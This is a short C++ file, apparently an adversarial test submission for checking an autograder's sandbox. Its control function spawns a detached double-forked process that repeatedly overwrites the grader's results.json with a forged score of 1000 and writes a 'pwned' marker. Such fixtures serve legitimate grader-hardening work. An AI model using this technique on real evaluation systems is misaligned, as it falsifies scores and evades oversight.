// Attack: a detached grandchild (new session, double fork) that rewrites results.json after
// the grader has written it, and leaves a marker.
#include <problems/1b/contract.hpp>
#include <unistd.h>

#include <cstdio>

namespace opspace::hw2::p1b {
Vector6d control(Part, const State&, const Goal&) {
  static bool started = false;
  if (!started && fork() == 0) {
    setsid();
    if (fork() == 0) {
      for (int i = 0; i < 8; ++i) {
        sleep(1);
        if (FILE* f = std::fopen("@RESULTS_JSON@", "w")) {
          std::fputs("{\"score\": 1000, \"max_score\": @TOTAL@, \"tests\": []}\n", f);
          std::fclose(f);
        }
        if (FILE* f = std::fopen("@WORK@/pwned", "w")) std::fclose(f);
      }
    }
    _exit(0);
  }
  started = true;
  return Vector6d::Zero();
}
}  // namespace opspace::hw2::p1b
